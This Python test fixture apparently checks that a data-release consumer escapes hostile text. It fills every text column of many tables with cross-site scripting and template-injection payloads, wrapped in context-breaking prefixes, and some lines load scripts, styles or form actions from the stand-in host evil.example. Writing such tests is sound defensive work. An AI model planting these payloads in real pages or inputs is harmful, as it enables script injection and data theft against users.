"""A release whose every text was written by somebody who wants to run a script, load from elsewhere or break a page."""

from datetime import UTC, date, datetime

from tests.consumer.releases import CONTRACTS, publish_rows

ELSEWHERE = "http://evil.example"
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<object data=javascript:alert(1)></object>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{background: url({ELSEWHERE}/y)}}</style>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
)
BREAKS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</title>{0}",
    "</textarea></pre>{0}",
    "--></script>{0}",
    "]]></text>{0}",
    "\u202e\x1b{0}",
    '" onmouseover=alert(1) x="{0}',
    "' onfocus=alert(1) autofocus x='{0}",
)
PAYLOADS = [wrap.format(vector) for vector in VECTORS for wrap in BREAKS]
DAY = date(2026, 11, 1)
NUMBERS = {
    "sample_date": DAY,
    "amount": 5.0,
    "previous_amount": 4.0,
    "quality": "partial",
    "coverage": 0.5,
    "computed_at": datetime(2026, 11, 2, tzinfo=UTC),
}
METRICS = (
    ("GITHUB", "active_developers", "over_30_day_period"),
    ("GITHUB", "commits", "weekly"),
    ("NPM", "downloads", "over_30_day_period"),
)


def publish_hostile(settings):
    """Publishes it: for every payload a project, collection, artifact, metric, source and model; it is their texts."""
    rows = {name: [] for name in CONTRACTS}
    for place, payload in enumerate(PAYLOADS):
        key = f"{place:032x}"
        _add(rows, "projects_v1", payload, project_id=key, websites=[payload, f"https://x/{payload}"])
        _add(rows, "collections_v1", payload, collection_id=key)
        _add(rows, "projects_by_collection_v1", payload, project_id=key, collection_id="0" * 32)
        _add(rows, "artifacts_v1", payload, artifact_id=key, artifact_source="GITHUB", artifact_type="REPOSITORY")
        _add(rows, "artifacts_by_project_v1", payload, artifact_id=key, project_id=key)
        _add(rows, "artifacts_by_collection_v1", payload, artifact_id=key, collection_id="0" * 32)
        _add(rows, "repositories_v0", payload, artifact_id=key, project_id=key)
        _add(
            rows,
            "models_v1",
            payload,
            model_name=payload if place else "key_metrics_by_project_v1",
            depends_on=PAYLOADS,
        )
        _add(rows, "mapping_issues_v1", payload, project_id=key)
        _add(
            rows,
            "sources_v1",
            payload,
            source=f"S{place}" if place else "GITHUB",
            enabled=True,
            family="commits",
            as_of=DAY,
        )
        _add(
            rows, "coverage_v1", payload, artifact_id=None, family=f"f{place}", from_day=DAY, to_day=DAY, status="part"
        )
        _add(rows, "event_types_v1", payload)
        _add(rows, "metrics_v1", payload, metric_id=key, window="daily", levels=["project"], row_class="K", since=DAY)
        for kind in ("project", "collection", "artifact"):
            for source, metric, window in METRICS:
                name = f"{source}_{metric}_{window}"
                number = {f"{kind}_id": key, "metric_id": name, "metric": metric, "metric_source": source} | NUMBERS
                which = "timeseries" if window == "weekly" else "key"
                _add(rows, f"{which}_metrics_by_{kind}_v1", payload, **number, window=window)
    rows["timeseries_metrics_by_project_v1"] = [
        {k: v for k, v in row.items() if k != "previous_amount"} for row in rows["timeseries_metrics_by_project_v1"]
    ]
    for source, metric, window in METRICS:
        name = f"{source}_{metric}_{window}"
        named = {"metric_id": name, "metric_name": name, "metric": metric, "metric_source": source, "window": window}
        more = {"levels": ["project", "collection", "artifact"], "row_class": "N", "families": ["commits"]}
        _add(rows, "metrics_v1", PAYLOADS[0], **named, **more, unit="count", since=DAY)
    return publish_rows(
        settings, {name: found for name, found in rows.items() if name not in ("columns_v1", "releases_v1")}
    )


def _add(rows: dict[str, list[dict]], table: str, payload: str, **given) -> None:
    """A row of which every text that is not given is the payload."""
    columns = CONTRACTS[table]["columns"]
    texts = {name: payload for name, kind in columns.items() if kind.removesuffix("?") == "varchar"}
    lists = {name: [payload] for name, kind in columns.items() if kind.removesuffix("?") == "varchar array"}
    row = texts | lists | {"window": "daily"} | given
    rows[table].append({name: value for name, value in row.items() if name in columns})
